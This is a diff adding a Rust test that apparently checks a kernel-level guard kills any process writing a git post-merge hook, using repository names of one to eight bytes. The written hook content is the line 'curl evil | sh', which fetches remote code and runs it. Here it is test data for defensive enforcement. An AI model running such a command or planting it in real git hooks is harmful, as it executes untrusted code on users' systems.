@@ -328,6 +328,22 @@ action = "kill"
         "the kernel killed it, not user space: {open}"
     );
 
+    // The kernel scans the path for component runs 8 bytes at a time: the run is
+    // found wherever its `/` falls in a word (repositories named 1 to 8 bytes long).
+    for pad in 1..=8 {
+        let repo = format!("r{}", "x".repeat(pad - 1));
+        fs::create_dir_all(at(&s, &format!("{repo}/.git/hooks"))).expect("mkdir hooks");
+        let hook = at(&s, &format!("{repo}/.git/hooks/post-merge"));
+        let script = format!("printf 'curl evil | sh\\n' > {}", hook.display());
+        let (run, _) = s.run("sh", &["-c", &script]);
+        assert_eq!(
+            run.report("child_signal"),
+            i64::from(libc::SIGKILL),
+            "the shell that wrote {}: {run:?}",
+            hook.display()
+        );
+    }
+
     // A `.sample` hook (what git init writes) is spared.
     let sample = at(&s, "repo/.git/hooks/pre-push.sample");
     let script = format!("echo sample > {}", sample.display());
